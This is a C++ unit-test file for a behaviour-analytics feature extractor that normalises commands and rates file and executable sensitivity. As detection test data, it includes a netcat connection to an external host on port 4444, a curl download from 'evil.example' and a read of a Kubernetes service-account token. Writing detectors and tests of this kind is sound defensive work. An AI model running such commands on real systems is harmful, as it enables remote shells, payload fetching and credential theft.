#include "ueba/features.hpp"

#include <gtest/gtest.h>

#include "ueba_test_util.hpp"

namespace privwatch::ueba {
namespace {

TEST(BaselineFeatures, CommandShapeNormalisesArguments) {
  std::string s;
  append_command_shape(s, "nc", {"nc", "203.0.113.9", "4444"});
  EXPECT_EQ(s, "nc IP N");
  s.clear();
  append_command_shape(s, "curl", {"curl", "--output=/tmp/x", "https://evil.example/a?b=c", "-v"});
  EXPECT_EQ(s, "curl --output=* https://* -v");
  s.clear();
  append_command_shape(s, "cat", {"cat", "/var/run/secrets/kubernetes.io/token"});
  EXPECT_EQ(s, "cat /var/run");
}

TEST(BaselineFeatures, PathAreaAndSensitivity) {
  EXPECT_EQ(path_area("/usr/local/bin/x", 3), "/usr/local/bin");
  EXPECT_EQ(path_area("/usr/bin/nc", 3), "/usr/bin");
  EXPECT_EQ(path_area("/x", 3), "/");
  EXPECT_EQ(exe_sensitivity("/usr/bin/nc"), Sensitivity::kCritical);
  EXPECT_EQ(exe_sensitivity("/tmp/.x/run"), Sensitivity::kCritical);
  EXPECT_EQ(exe_sensitivity("/usr/bin/bash"), Sensitivity::kSensitive);
  EXPECT_EQ(exe_sensitivity("/usr/bin/ls"), Sensitivity::kNormal);
  EXPECT_EQ(file_sensitivity("/var/run/secrets/kubernetes.io/serviceaccount/token", false, false),
            Sensitivity::kCritical);
  EXPECT_EQ(file_sensitivity("/usr/local/bin/x", true, false), Sensitivity::kCritical);
  EXPECT_EQ(file_sensitivity("/srv/app/a", false, false), Sensitivity::kNormal);
}

TEST(BaselineFeatures, InternalNetworks) {
  Networks n;
  std::array<uint8_t, 16> a{};
  inet_pton(AF_INET, "10.1.2.3", a.data());
  EXPECT_TRUE(n.internal(AF_INET, a));
  inet_pton(AF_INET, "203.0.113.9", a.data());
  EXPECT_FALSE(n.internal(AF_INET, a));
  EXPECT_TRUE(n.add("203.0.113.0/25"));
  EXPECT_TRUE(n.internal(AF_INET, a));
  EXPECT_FALSE(n.add("203.0.113.0"));
  EXPECT_FALSE(n.add("nonsense/8"));
  inet_pton(AF_INET6, "fd12::1", a.data());
  EXPECT_TRUE(n.internal(AF_INET6, a));
}

TEST(BaselineFeatures, ExecYieldsTheDocumentedFeatures) {
  Networks n;
  Extractor x(n, nullptr, 0);
  std::array<Observation, kFeatureCount> obs;
  testing::Who w;
  // Wed 2026-01-07 23:04 UTC.
  auto ev =
      testing::exec_event(w, testing::kT0 + 2 * testing::kDay + (23 * 3600 + 240) * testing::kSec,
                          "/usr/bin/nc", {"203.0.113.9", "4444"});
  const size_t k = x.extract(ev, obs);
  std::map<std::string, std::string> got;
  for (size_t i = 0; i < k; ++i) got[std::string(to_string(obs[i].feature))] = obs[i].value;
  EXPECT_EQ(got["executable"], "nc");
  EXPECT_EQ(got["executable_area"], "/usr/bin");
  EXPECT_EQ(got["executable_on_cluster"], "nc on db-servers");
  EXPECT_EQ(got["parent_child"], "bash → nc");
  EXPECT_EQ(got["command"], "nc IP N");
  EXPECT_EQ(got["context"], "interactive: nc");
  EXPECT_EQ(got["time_of_week"], "Wed 23:00");
  EXPECT_EQ(got["host"], "db-1");
  EXPECT_EQ(got["source"], "10.8.1.0/24");
  auto net = testing::connect_event(w, testing::kT0, "203.0.113.9", 4444, "/usr/bin/nc");
  ASSERT_EQ(x.extract(net, obs), 1u);
  EXPECT_EQ(obs[0].value, "external 203.0.113.0/24 port 4444");
  EXPECT_EQ(obs[0].sensitivity, Sensitivity::kSensitive);
}

}  // namespace
}  // namespace privwatch::ueba
